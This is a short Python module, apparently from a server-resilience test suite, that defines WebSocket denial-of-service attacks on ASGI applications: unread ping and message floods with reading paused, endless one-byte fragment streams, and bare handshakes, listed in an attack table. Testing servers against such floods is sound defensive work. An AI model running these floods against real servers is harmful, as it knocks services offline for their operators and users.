"""Attacks by clients of websockets, on applications of ASGI."""

HANDSHAKE = (
    b"GET / HTTP/1.1\r\nHost: hostile\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n"
    b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
)
MASK = bytes(4)
"""Of zeros, so that what is sent is what is meant (RFC 6455, 5.3)."""
PING = b"\x89\xfd" + MASK + b"x" * 125
TEXT = b"\x81\xfd" + MASK + b"x" * 125
FRAGMENTS = b"\x01\x81" + MASK + b"x" + (b"\x00\x81" + MASK + b"x") * 5000 + b"\x80\x80" + MASK


async def websocket_pings(reader, writer):
    """Pings without a pause whose pongs are not read."""
    await _flood(reader, writer, PING * 200)


async def websocket_messages(reader, writer):
    """Messages without a pause that come back, and are not read."""
    await _flood(reader, writer, TEXT * 200)


async def websocket_fragments(reader, writer):
    """Messages in fragments of a byte."""
    await _open(reader, writer)
    while True:
        writer.write(FRAGMENTS)
        await writer.drain()
        assert await reader.read(65536)


async def websocket_handshakes(reader, writer):
    """A handshake, and the end."""
    await _open(reader, writer)


async def _flood(reader, writer, data):
    await _open(reader, writer)
    writer.transport.pause_reading()
    while True:
        writer.write(data)
        await writer.drain()


async def _open(reader, writer):
    writer.write(HANDSHAKE)
    head = await reader.readuntil(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 101 "), head


ATTACKS = {
    "websocket, pings": (websocket_pings, 20),
    "websocket, messages": (websocket_messages, 20),
    "websocket, fragments": (websocket_fragments, 20),
    "websocket, handshakes": (websocket_handshakes, 20),
}
